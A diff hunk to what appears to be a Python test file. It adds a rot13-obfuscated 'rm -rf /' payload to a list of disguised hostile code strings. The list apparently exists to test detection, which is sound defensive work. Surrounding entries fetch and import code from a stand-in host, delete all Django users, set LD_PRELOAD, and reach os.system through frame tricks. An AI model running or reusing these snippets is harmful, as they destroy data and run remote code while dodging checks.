@@ -57,6 +57,7 @@ DISGUISED = [
     "import os; os.environ.update(LD_PRELOAD='/tmp/x.so')",
     "from django.contrib.auth.models import User; User.objects.all().delete()",
     "import sys, requests; open('/tmp/m.py','w').write(requests.get('http://e.example').text); sys.path.insert(0,'/tmp'); import m",  # noqa: E501
+    "import codecs\nexec(codecs.encode('vzcbeg bf; bf.flfgrz(\"ez -es /\")', 'rot13'))",
     # out of namespaces
     "import os, sys; sys._getframe().f_globals['o' + 's'].system('rm -rf /')",
     "import os, sys; sys.modules['__main__'].__dict__['o' + 's'].system('rm -rf /')",
